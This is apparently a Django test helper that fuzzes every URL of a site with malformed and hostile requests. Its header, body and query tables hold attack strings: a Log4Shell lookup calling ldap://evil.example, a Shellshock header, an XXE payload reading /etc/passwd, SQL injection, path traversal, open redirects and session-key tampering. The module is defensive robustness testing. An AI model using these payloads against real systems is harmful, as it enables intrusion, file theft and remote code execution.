"""Requests that nobody of good will sends: to every address, by every method, any part bent."""

import json
import random
import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, urlencode

from django.contrib.auth import SESSION_KEY
from django.http import HttpResponse
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

from tests.filling import HOSTILE, UNASKED, URLENCODED

METHODS = ("GET", "GET", "POST", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "X")
# Found on the way to a page; the last stand for what a proxy or a neighbour might add.
HEADERS = {
    "HTTP_HOST": ("evil.example", "testserver:99999", "127.0.0.1@evil.example", "", "[::1"),
    "HTTP_X_FORWARDED_HOST": ("evil.example",),
    "HTTP_X_FORWARDED_FOR": ("127.0.0.1", "not an address", "1.2.3.4, " * 300, "' OR 1=1 --"),
    "HTTP_X_FORWARDED_PROTO": ("https", "javascript"),
    "HTTP_X_ORIGINAL_URL": ("/admin/",),
    "HTTP_X_HTTP_METHOD_OVERRIDE": ("DELETE",),
    "HTTP_REFERER": ("https://evil.example/", "javascript:alert(1)", "x" * 9000, "http://[::1"),
    "HTTP_ORIGIN": ("null", "https://evil.example", "file://"),
    "HTTP_ACCEPT": ("application/json", "*/*;q=nan", "text/html;" * 500, "image/svg+xml"),
    "HTTP_ACCEPT_LANGUAGE": ("xx-" * 200, "cy;q=1e400", "\xff\xfe"),
    "HTTP_ACCEPT_ENCODING": ("br;q=0, gzip;q=x", "identity;q=0, *;q=0"),
    "HTTP_RANGE": ("bytes=0-0,1-1", "bytes=-99999999999999999999", "lines=1"),
    "HTTP_IF_MODIFIED_SINCE": ("yesterday", "Mon, 99 Feb 2026 99:99:99 GMT"),
    "HTTP_IF_NONE_MATCH": ("*", '"x', "W/"),
    "HTTP_USER_AGENT": ("() { :; }; echo", "\xe9" * 3000, "${jndi:ldap://evil.example/a}"),
    "HTTP_HX_REQUEST": ("true", "\xff"),
    "HTTP_HX_CURRENT_URL": ("http://[::1", "javascript:alert(1)"),
    "HTTP_AUTHORIZATION": ("Basic b2ZmaWNlOm9mZmljZQ==", "Bearer null", "Negotiate"),
    "HTTP_PAYPAL_TRANSMISSION_ID": ("1", "x" * 5000),
    "HTTP_PAYPAL_CERT_URL": ("https://evil.example/cert.pem", "file:///etc/passwd"),
    "CONTENT_LENGTH": ("-1", "99999999999", "ten"),
}
KINDS = (
    "application/json",
    "text/xml",
    "multipart/form-data",
    "multipart/form-data; boundary=" + "x" * 300,
    "application/x-www-form-urlencoded; charset=utf-7",
    "application/x-www-form-urlencoded; charset=no-such",
    "text/html; charset=\xff",
    "application/octet-stream",
)
BODIES = (
    b"",
    b"\0" * 64,
    b"\xff\xfe\xfd",
    b"{",
    b"[]",
    b"null",
    b'{"id": {"$gt": ""}, "event_type": ["x"], "resource": []}',
    b'{"id": "\\u0000", "event_type": "PAYMENT.CAPTURE.COMPLETED"}',
    b"[" * 5000,
    b'{"a": ' * 3000,
    b"9" * 5000,
    b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n',
    b'--x\r\nContent-Disposition: form-data; name="f"; filename="../../a\0.html"\r\n\r\n1\r\n--x--',
    b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    b"a=" + b"%F0%28" * 50,
    b"&".join(b"a%d=1" % number for number in range(2500)),
    b"x" * 3_000_000,
)
COOKIES = ("messages", "shortlist", "csrftoken", "sessionid")
ODD_PLACES = (
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f",
    "..\\..\\windows",
    "%00",
    "a%00.html",
    "%c0%ae%c0%ae",
    "%ff%fe",
    "%E2%80%AE",
    "-1",
    "0",
    "00000000001",
    "9223372036854775808",
    "9" * 300,
    "1e3",
    "1;id=2",
    "1%20OR%201=1",
    "%3Cscript%3E",
    "x" * 3000,
    "%F0%9F%91%A9",
    "add",
    "None",
    "00000000-0000-0000-0000-000000000000",
)
QUERIES = (
    "page=-1",
    "page=99999999999999999999",
    "page=%00",
    "page=last&page=1",
    "q=%00",
    "q=" + "x" * 5000,
    "q=%F0%28%8C",
    "o=1.2.3.-99.x",
    "o=%00",
    "p=9999999",
    "all=&e=1",
    "_popup=1&_to_field=password",
    "_changelist_filters=q%3D%00",
    "user__password__startswith=a",
    "person__user__password__regex=.*",
    "id__in=1,2,x",
    "pk__range=1",
    "date__year=99999",
    "state__isnull=maybe",
    "next=//evil.example",
    "next=javascript:alert(1)",
    "app_label=membership&model_name=user&field_name=password",
    "app_label=%00&model_name=x&field_name=y",
    "postcode=%00&miles=1e400",
    "area=x&area=y&expertise=%00",
    "kind=%00&of=x",
    "year=0&month=13",
    "from=0000-00-00&to=9999-99-99",
    "=&&==;",
    "%",
    "a[]=1&a[b]=2&__proto__=3",
)


@dataclass
class Hostile:
    """One request, told so that it can be sent again."""

    method: str
    way: str
    query: str
    body: bytes = b""
    kind: str = URLENCODED
    headers: dict[str, str] = field(default_factory=dict)
    cookies: dict[str, str] = field(default_factory=dict)

    def __str__(self) -> str:
        said = [self.method, f"{self.way[:200]}?{self.query[:200]}", self.kind[:60]]
        rest = (self.body[:80], self.headers, self.cookies)
        return " ".join([*said, *(str(one)[:300] for one in rest if one)])

    def send(self, client: Client) -> HttpResponse:
        kept = {name: one.value for name, one in client.cookies.items()}
        line = "; ".join(f"{name}={value}" for name, value in (kept | self.cookies).items())
        more: dict[str, Any] = {**self.headers, "HTTP_COOKIE": line, "QUERY_STRING": self.query}
        return client.generic(self.method, self.way, self.body, self.kind, **more)


def ways() -> list[str]:
    """The pattern of every address that there is."""

    def walk(patterns: Sequence[URLPattern | URLResolver], way: str) -> Iterator[str]:
        for one in patterns:
            here = way + str(one.pattern)
            if isinstance(one, URLResolver):
                yield from walk(one.url_patterns, here)
            else:
                yield here

    return sorted(dict.fromkeys(walk(get_resolver().url_patterns, "/")))


def place_in(way: str, choose: random.Random, known: Sequence[str]) -> str:
    """The address with something in each of its places: what is somebody else's, or nonsense."""

    def something(_match: re.Match[str]) -> str:
        if choose.random() < 0.55:
            return quote(choose.choice(known), safe="")
        return choose.choice(ODD_PLACES)

    def one_of(match: re.Match[str]) -> str:
        return choose.choice([*match[1].split("|"), something(match)])

    way = re.sub(r"\(\?P<\w+>([\w|]+)\)", one_of, way)
    way = re.sub(r"\(\?P<\w+>[^)]*\)|\(\[\^/\]\+\)|<[^>]+>", something, way)
    return re.sub(r"[\^$]|\\Z", "", way)


def hostile(
    choose: random.Random, way: str, *, known: Sequence[str], names: Sequence[str]
) -> Hostile:
    """One request: an address, and some of its parts bent."""
    method = choose.choice(METHODS)
    query = choose.choice(QUERIES) if choose.random() < 0.5 else ""
    request = Hostile(method, place_in(way, choose, known), query)
    if method in {"POST", "PUT", "PATCH", "DELETE"}:
        request.body, request.kind = _body(choose, known, names)
    if choose.random() < 0.4:
        for name in choose.sample(sorted(HEADERS), choose.randint(1, 3)):
            request.headers[name] = choose.choice(HEADERS[name])
    if choose.random() < 0.15:
        values = ("", "x" * 4000, "\xff\xfe", "deadbeef" * 4, 'a"b,c;d', "null", "%00")
        request.cookies[choose.choice(COOKIES)] = choose.choice(values)
    return request


def _body(choose: random.Random, known: Sequence[str], names: Sequence[str]) -> tuple[bytes, str]:
    """Fields that the site knows and that nobody may set, or what is no form at all."""
    if choose.random() < 0.35:
        return choose.choice(BODIES), choose.choice((URLENCODED, *KINDS))
    chosen = [*choose.sample(names, min(len(names), 8)), *choose.sample(UNASKED, 4), SESSION_KEY]
    values = (*HOSTILE, *known, "on", "true", "1", "approved", "activated")
    filled = {name: choose.choice(values) for name in chosen}
    if choose.random() < 0.1:
        return json.dumps(filled).encode("utf-8", "surrogatepass"), "application/json"
    return urlencode(filled, errors="surrogatepass").encode(), URLENCODED
